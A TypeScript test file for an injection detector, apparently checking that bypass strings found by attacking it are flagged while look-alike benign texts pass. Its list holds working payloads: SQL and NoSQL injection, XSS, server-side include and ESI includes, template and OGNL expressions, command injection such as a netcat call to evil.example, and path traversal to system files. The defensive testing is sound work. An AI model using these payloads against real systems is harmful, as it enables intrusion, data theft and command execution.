import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { defaultThreshold, injectionClasses } from '../../src/injection/finding.ts'
import { judgeText } from '../../src/injection/judge-text.ts'

const asked = { classes: new Set(injectionClasses), threshold: defaultThreshold }
const score = (text: string) => judgeText(text, asked)?.score ?? 0

/** Ways past the detectors that were found by attacking them. */
const ways = [
  "' or 1e0=1--",
  '1e0union select 1',
  "'=''or'",
  '1 union values(1)',
  "' union values row(1,2)--",
  '1 union table users',
  "'; table users--",
  "'; copy (select '') to program 'id'--",
  '(select*from(select(sleep(5)))a)',
  'id,(select password from users)',
  'id;drop table users',
  'id;select pg_sleep(5)',
  'if(1=1,sleep(5),0)',
  'benchmark(1000000,md5(1))',
  '1;sleep(5000)',
  "true, $where: '1 == 1'",
  'javascript&colon;alert(1)',
  '<svg><script xlink:href=data:,alert(1)></script>',
  "<svg><use href='data:image/svg+xml;base64,AAA'>",
  '[x](javascript:alert(1))',
  '[x](<java&Tab;script:alert(1)>)',
  '<!--#exec cmd="id"-->',
  '<!--#include virtual="/etc/passwd"-->',
  '<esi:include src=http://evil.example/>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  '${script:javascript:1}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  '${url:UTF-8:http://evil.example}',
  "%{(#_='multipart/form-data')}",
  '%{#context}',
  '%{7*7}',
  'x|nc evil.example 4444',
  'a & ping -n 5 127.0.0.1 &',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  'a;${PATH:0:1}bin${PATH:0:1}id',
  '..;/admin',
  '/WEB-INF/web.xml',
  '/proc/1/cmdline',
]

/** Texts of people that come close. */
const honest = [
  'The union values its members (all of them)',
  'Union table tennis club, Leeds',
  'Sizes (select one from the list), colours (select 2)',
  'Name; update the sheet, then select 2 of 5',
  'Reserve table 4; table 5 is taken',
  'sleep(5)',
  'if (a, b) then c',
  'Weight 1e3 or 2e3 grams',
  '0x1e0 and 3e10',
  'Hello %{name}, you have %{count} items',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: people write about it
  'Use ${#list[@]} for the length, ${name:0:3} for the first letters',
  '[the docs](https://example.com/javascript:intro)',
  '[menu](javascript:void(0))',
  '<!-- #region include -->',
  'ping me & nc them | later',
  'a..;b',
  'The $where operator: slow, avoid it',
  'AT&T: javascript & more',
  'Benchmark (2024)',
  "Teachers' Union Select Committee",
]

describe('ways past the detectors that were found', () => {
  for (const text of ways) test(text, () => assert.ok(score(text) >= defaultThreshold))
})

describe('texts that come close to them pass', () => {
  for (const text of honest) test(text, () => assert.ok(score(text) < defaultThreshold))
})
